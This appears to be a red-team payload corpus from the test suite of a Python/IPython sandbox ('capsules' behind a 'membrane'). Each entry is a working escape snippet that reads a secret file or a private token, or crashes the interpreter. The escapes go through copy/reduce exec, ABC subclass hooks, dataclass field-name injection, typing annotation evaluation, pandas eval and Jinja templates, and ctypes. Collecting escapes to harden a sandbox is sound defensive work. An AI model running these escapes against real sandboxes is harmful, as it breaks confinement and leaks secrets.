"""Payloads at the seam where trusted code calls capsule code, hands it raw objects, or
keeps what a capsule gave it (DESIGN.md, "The boundary"; ESCAPES.md's rows "confused
deputies", "authority left in reachable dicts", "smuggling inside value types").

Each one reaches its canary as plain Python (tests/redteam/test_corpus.py checks both)."""

from __future__ import annotations

# (name, row, group, source, canary) -- registered by payloads.py
FRAME = "confused deputies: frame-relative builtins"
HOOKS = "confused deputies: raw objects into capsule hooks"
DICTS = "authority left in reachable dicts"
VALUES = "smuggling inside value types"
CRASHERS = "crashers"
LIBRARIES = "granted libraries"

_ABC_HEAD = """
import abc, collections.abc
seen = []
def hook(cls, C):
    seen.append(C)
    return NotImplemented
def check(cls, C):
    seen.append(C)
    return False
ns = {'__subclasshook__': classmethod(hook), '__getitem__': lambda s, i: i, '__len__': lambda s: 0}
class Seq(collections.abc.Sequence):
    def __getitem__(self, i):
        return i
    def __len__(self):
        return 0
"""
_ABC_TAIL = """
class Fresh:
    pass
collections.abc.Sequence.register(Fresh)  # registering empties the ABC caches
vault.kind()
C = [c for c in seen if c.__name__ == 'Vault'][0]
C.kind = lambda self: print(self._token)
vault.kind()
"""
_ABC_VARIANTS = [
    ("assigned-after-the-class-statement", "Seq.__subclasshook__ = classmethod(hook)\n"),
    ("set-with-setattr", "setattr(Seq, '__subclasshook__', classmethod(hook))\n"),
    (
        "as-a-staticmethod",
        "class H(Seq):\n    @staticmethod\n    def __subclasshook__(C):\n"
        "        return hook(None, C)\n",
    ),
    (
        "as-a-callable-object",
        "class Hook:\n    def __call__(self, C):\n        return hook(None, C)\n"
        "class H(Seq):\n    __subclasshook__ = Hook()\n",
    ),
    ("class-made-by-calling-abcmeta", "H = abc.ABCMeta('H', (collections.abc.Sequence,), ns)\n"),
    (
        "class-made-by-abcmeta-new",
        "AM = type(collections.abc.Sequence)\n"
        "H = AM.__new__(AM, 'H', (collections.abc.Sequence,), ns)\n",
    ),
    (
        "class-made-by-the-real-type-new",
        "T = type(int)\nH = T.__new__(abc.ABCMeta, 'H', (collections.abc.Sequence,), ns)\n",
    ),
    (
        "class-made-by-make-dataclass",
        "import dataclasses\nH = dataclasses.make_dataclass('H', [], "
        "bases=(collections.abc.Sequence,), namespace=ns)\n",
    ),
    (
        "copied-by-update-wrapper",
        "import functools\nclass Src:\n    pass\nSrc.__subclasshook__ = classmethod(hook)\n"
        "functools.update_wrapper(Seq, Src, assigned=('__subclasshook__',), updated=())\n",
    ),
    (
        "metaclass-hook-assigned-after",
        "class M(abc.ABCMeta):\n    pass\nclass H(collections.abc.Sequence, metaclass=M):\n"
        "    __getitem__ = ns['__getitem__']\n    __len__ = ns['__len__']\n"
        "M.__subclasscheck__ = check\n",
    ),
    (
        "metaclass-property-subclasshook",
        "class M(abc.ABCMeta):\n    @property\n    def __subclasshook__(cls):\n"
        "        return lambda C: hook(cls, C)\n"
        "class H(collections.abc.Sequence, metaclass=M):\n"
        "    __getitem__ = ns['__getitem__']\n    __len__ = ns['__len__']\n",
    ),
    (
        "metaclass-made-by-the-real-type",
        "T = type(int)\nM = T('M', (abc.ABCMeta,), {'__subclasscheck__': check})\n"
        "H = T.__new__(M, 'H', (collections.abc.Sequence,), dict(ns))\n",
    ),
    (
        "registered-class-metaclass-hook-assigned-after",
        "class M(type):\n    pass\nclass H(metaclass=M):\n    pass\n"
        "collections.abc.Sequence.register(H)\nM.__subclasscheck__ = check\n",
    ),
]

_DC_TAIL = """
m = rawsys.modules['ipycap.engine.membrane']
try:
    v = m.target_of(vault)
except Exception:
    v = vault
loot = v._token
"""
#: dataclasses pastes field names into the source it generates and ran it in the globals of
#: sys.modules[cls.__module__]: a field name that is an expression reads that module's names.
_DC_VARIANTS = [
    (
        "dataclass-eq-field-name-reads-module-globals",
        """
import dataclasses
class C:
    __module__ = 'dataclasses'
    __annotations__ = {'a,)[1:]or(sys': int}
C = dataclasses.dataclass(init=False, repr=False)(C)
c = C()
c.a = 1
rawsys = (c == c)[0]
""",
    ),
    (
        "dataclass-module-assigned-after-the-class-statement",
        """
import dataclasses
class C:
    pass
C.__module__ = 'dataclasses'
C.__annotations__ = {'a,)[1:]or(sys': int}
C = dataclasses.dataclass(init=False, repr=False)(C)
c = C()
c.a = 1
rawsys = (c == c)[0]
""",
    ),
    (
        "dataclass-field-name-from-a-base-dataclass-fields",
        """
import dataclasses
class B:
    __annotations__ = {'a,)[1:]or(sys': int}
B = dataclasses.dataclass(init=False, repr=False, eq=False)(B)
class C(B):
    __module__ = 'dataclasses'
C = dataclasses.dataclass(init=False, repr=False)(C)
c = C()
c.a = 1
rawsys = (c == c)[0]
""",
    ),
    (
        "dataclass-order-field-name-reads-module-globals",
        """
import dataclasses
class C:
    __module__ = 'dataclasses'
    __annotations__ = {'a,)[1:]or(sys': int}
C = dataclasses.dataclass(init=False, repr=False, order=True)(C)
c = C()
c.a = 1
rawsys = (c < c)[0]
""",
    ),
]

BOUNDARY = [
    # -- I1: a trusted function calls a capsule builtin that reads its caller's frame ------
    (
        "copy-reconstructor-calls-exec",
        FRAME,
        """
import copy
class R:
    def __reduce_ex__(self, protocol):
        return (exec, ("print(open('@secret@').read())",))
copy.copy(R())
""",
        "file",
    ),
    (
        "copy-reconstructor-calls-eval",
        FRAME,
        """
import copy
class R:
    def __reduce_ex__(self, protocol):
        return (eval, ("open('@secret@').read()",))
loot = copy.copy(R())
""",
        "file",
    ),
    (
        "copy-reconstructor-calls-globals",
        FRAME,
        """
import copy
class R:
    def __reduce_ex__(self, protocol):
        return (globals, ())
g = copy.copy(R())
b = g['__builtins__']
loot = (b['open'] if type(b) is dict else b.open)('@secret@').read()
""",
        "file",
    ),
    (
        "defaultdict-factory-under-template",
        FRAME,
        """
import collections, functools, string
d = collections.defaultdict(functools.partial(eval, "open('@secret@').read()"))
loot = string.Template('$x').substitute(d)
""",
        "file",
    ),
    (
        "json-object-hook-eval",
        FRAME,
        """
import functools, json
loot = json.loads('{"a": 1}', object_hook=functools.partial(eval, "open('@secret@').read()", None))
""",
        "file",
    ),
    (
        "repr-slot-is-a-partial-eval-of-trusted-locals",
        FRAME,
        """
import functools
class R:
    __repr__ = functools.partial(eval, "print(self._token) or 'r'")
vault.describe(R())
""",
        "token",
    ),
    # -- I4: what a capsule can reach of its own builtins carries no authority ------------
    (
        "builtins-of-globals-open",
        DICTS,
        """
b = globals()['__builtins__']
loot = (b['open'] if type(b) is dict else b.open)('@secret@').read()
""",
        "file",
    ),
    (
        "builtins-of-a-fresh-exec-namespace",
        DICTS,
        """
g = {}
exec('1', g)
b = g['__builtins__']
loot = (b['open'] if type(b) is dict else b.open)('@secret@').read()
""",
        "file",
    ),
    (
        "builtins-unmarked-then-library-reads",
        DICTS,
        """
b = globals()['__builtins__']
for key in [k for k in dir(b) if 'ipycap' in k] + ['_ipycap_context']:
    try:
        delattr(b, key)
    except Exception:
        pass
    try:
        del b[key]
    except Exception:
        pass
from IPython.display import Markdown
loot = Markdown(filename='@secret@').data
""",
        "file",
    ),
    # -- I2 at the seam: hooks trusted code calls with its own classes ---------------------
    (
        "abc-subclasshook-gets-trusted-class",
        HOOKS,
        """
import collections.abc
seen = []
class H(collections.abc.Sequence):
    @classmethod
    def __subclasshook__(cls, C):
        seen.append(C)
        return NotImplemented
    def __getitem__(self, i):
        return i
    def __len__(self):
        return 0
class Fresh:
    pass
collections.abc.Sequence.register(Fresh)  # registering empties the ABC caches
vault.kind()
C = [c for c in seen if c.__name__ == 'Vault'][0]
C.kind = lambda self: print(self._token)
vault.kind()
""",
        "token",
    ),
    (
        "abc-metaclass-subclasscheck-gets-trusted-class",
        HOOKS,
        """
import abc, collections.abc
seen = []
class M(abc.ABCMeta):
    def __subclasscheck__(cls, C):
        seen.append(C)
        return False
class H(collections.abc.Sequence, metaclass=M):
    def __getitem__(self, i):
        return i
    def __len__(self):
        return 0
class Fresh:
    pass
collections.abc.Sequence.register(Fresh)  # registering empties the ABC caches
vault.kind()
C = [c for c in seen if c.__name__ == 'Vault'][0]
C.kind = lambda self: print(self._token)
vault.kind()
""",
        "token",
        {"grants": (("import", "abc"),)},
    ),
    (
        "abc-registered-metaclass-instancecheck",
        HOOKS,
        """
import abc, collections.abc
seen = []
class M(type):
    def __subclasscheck__(cls, C):
        seen.append(C)
        return False
class H(metaclass=M):
    pass
collections.abc.Sequence.register(H)
class Fresh:
    pass
collections.abc.Sequence.register(Fresh)  # registering empties the ABC caches
vault.kind()
C = [c for c in seen if c.__name__ == 'Vault'][0]
C.kind = lambda self: print(self._token)
vault.kind()
""",
        "token",
    ),
    # ABC hooks that no class statement guarded (red team 1, "ABC hooks wrapped only at
    # class creation"): assigned later, any callable or descriptor, classes made by calling a
    # metaclass.  Each one steals the raw class the same way as the payloads above.
    *[
        (
            f"abc-hook-{name}",
            HOOKS,
            _ABC_HEAD + body + _ABC_TAIL,
            "token",
            {"grants": (("import", "abc"), ("import", "dataclasses"), ("import", "functools"))},
        )
        for name, body in _ABC_VARIANTS
    ],
    # -- library code generation in a module the capsule names (red team 1, open in part) ---
    *[
        (name, DICTS, body + _DC_TAIL, "token", {"grants": (("import", "dataclasses"),)})
        for name, body in _DC_VARIANTS
    ],
    # -- values that carry fields: a capsule object inside still meets the membrane --------
    (
        "slice-start-receives-trusted-secret",
        VALUES,
        """
got = []
class Spy:
    def __lt__(self, other):
        got.append(other)
        return True
    def __gt__(self, other):
        got.append(other)
        return True
vault.starts_before(slice(Spy(), None))
loot = got
""",
        "token",
    ),
    (
        "slice-step-receives-trusted-secret",
        VALUES,
        """
got = []
class Spy:
    def __lt__(self, other):
        got.append(other)
        return True
    def __gt__(self, other):
        got.append(other)
        return True
window = slice(None, None, Spy())
vault.starts_before(slice(window.step, 1))
loot = got
""",
        "token",
    ),
    (
        "slice-stop-passed-back-receives-trusted-secret",
        VALUES,
        """
got = []
class Spy:
    def __lt__(self, other):
        got.append(other)
        return True
    def __gt__(self, other):
        got.append(other)
        return True
s = slice(0, Spy())
vault.starts_before(slice(s.stop, None))
loot = got
""",
        "token",
    ),
    # -- granted libraries: what a library does or hands out for the capsule ----------------
    (
        "polars-native-read-outside-the-grants",
        LIBRARIES,
        """
import polars as pl
loot = pl.read_csv('@secret@', has_header=False).to_dicts()
""",
        "file",
        {"grants": (("import", "polars"),)},
    ),
    (
        "library-reexport-of-importlib",
        LIBRARIES,
        """
from sklearn.utils.discovery import import_module
loot = import_module('builtins').open('@secret@').read()
""",
        "file",
        {"grants": (("import", "sklearn"),)},
    ),
    (
        "pandas-eval-reads-private-state",
        LIBRARIES,
        """
import pandas as pd
loot = pd.eval('vault._token', local_dict={'vault': vault})
""",
        "token",
        {"grants": (("import", "pandas"),)},
    ),
    # -- crashers: deep C recursion through safe builtins kills the interpreter (3.11) -------
    *[
        (
            f"nested-{name}-iterators-to-list",
            CRASHERS,
            "x = iter([1])\nfor _ in range(1_000_000):\n    x = " + wrap + "\nlist(x)\n",
            "crash",
        )
        for name, wrap in (
            ("map", "map(abs, x)"),
            ("filter", "filter(None, x)"),
            ("zip", "zip(x)"),
        )
    ],
]

# -- red team 10: three rows of their own (ESCAPES.md) -----------------------------------
FALLBACKS = "interpreter fallbacks around a guard"
EVALUATORS = "evaluators that re-implement the guard"
IDENTITY = "class identity and ABC walks"
_PANDAS = {"grants": (("import", "pandas"),)}
#: A class whose metaclass's __eq__ records what it is compared with, and whose hash is the
#: raw class of ``vault`` (a proxy hashes like its target): trusted class-keyed caches hand
#: it their stored keys (tests/redteam/test_shared_caches.py too).
METACLASS_EQ = """
import collections.abc, typing
got = []
class M(type):
    def __eq__(cls, other):
        got.append(other)
        return False
    def __hash__(cls):
        return hash(type(vault))
class H(metaclass=M):
    pass
"""
_NUMPY_PANDAS = {"grants": (("import", "pandas"), ("import", "numpy"))}

BOUNDARY += [
    # CPython's IMPORT_FROM takes an AttributeError for a circular import and reads
    # sys.modules['pkg._x'] itself.
    (
        "from-import-falls-back-to-a-private-submodule",
        FALLBACKS,
        "from importlib import _bootstrap_external as b\nloot = b._io.open('@secret@').read()\n",
        "file",
    ),
    # typing evaluates an annotation in sys.modules[cls.__module__].__dict__: a C module's
    # namespace holds raw modules and no __builtins__.
    (
        "annotation-evaluated-in-a-c-modules-namespace",
        FALLBACKS,
        """
import typing
class C:
    x: 'modules'
C.__module__ = 'sys'
loot = typing.get_type_hints(C)['x']['builtins'].open('@secret@').read()
""",
        "file",
    ),
    (
        "forward-ref-module-given-as-a-str-subclass",
        FALLBACKS,
        """
import typing
class S(str):
    pass
ns = typing.ForwardRef('modules', module=S('sys'))._evaluate(None, None, frozenset())
loot = ns['builtins'].open('@secret@').read()
""",
        "file",
    ),
    # A library's own evaluator reads attributes with its own getattr.
    (
        "pandas-expression-hides-an-attribute-in-backticks",
        EVALUATORS,
        """
import numpy as np, pandas as pd
a = np.arange(3)
df = pd.DataFrame({'x': [1]})
ct = df.eval("['`', @a.ctypes._ctypes, '`']")[1]
ct.CDLL(None).creat(b'@marker@', 0o600)
""",
        "marker",
        _NUMPY_PANDAS,
    ),
    (
        "styler-jinja-template-reads-private-state",
        EVALUATORS,
        """
import pandas as pd
env = pd.DataFrame({'a': [1]}).style.env
loot = env.from_string('{{ v._token }}').render(v=vault)
""",
        "token",
        _PANDAS,
    ),
    (
        "styler-format-field-reads-private-state",
        EVALUATORS,
        """
import pandas as pd
loot = pd.DataFrame({'a': [vault]}).style.format('{0._token}').to_html()
""",
        "token",
        _PANDAS,
    ),
    # Trusted caches and slots keyed or dispatched by class identity.
    (
        "subclasshook-in-the-body-of-a-trusted-abc-subclass",
        IDENTITY,
        _ABC_HEAD + "class H(collections.abc.Sequence):\n    __subclasshook__ = classmethod(hook)\n"
        "    __getitem__ = ns['__getitem__']\n    __len__ = ns['__len__']\n" + _ABC_TAIL,
        "token",
        {"grants": (("import", "abc"),)},
    ),
    (
        "metaclass-eq-meets-the-raw-class-in-an-abc-cache",
        IDENTITY,
        METACLASS_EQ
        + """
vault.kind()  # trusted code puts its own class in the ABC's negative cache
issubclass(H, collections.abc.Sequence)
C = [c for c in got if getattr(c, '__name__', '') == 'Vault'][0]
C.kind = lambda self: print(self._token)
vault.kind()
""",
        "token",
    ),
    (
        "bound-c-method-as-eq-receives-the-trusted-operand",
        IDENTITY,
        """
sink = []
class F:
    __eq__ = sink.append
    __hash__ = object.__hash__
vault.check(F())
loot = sink
""",
        "token",
    ),
]
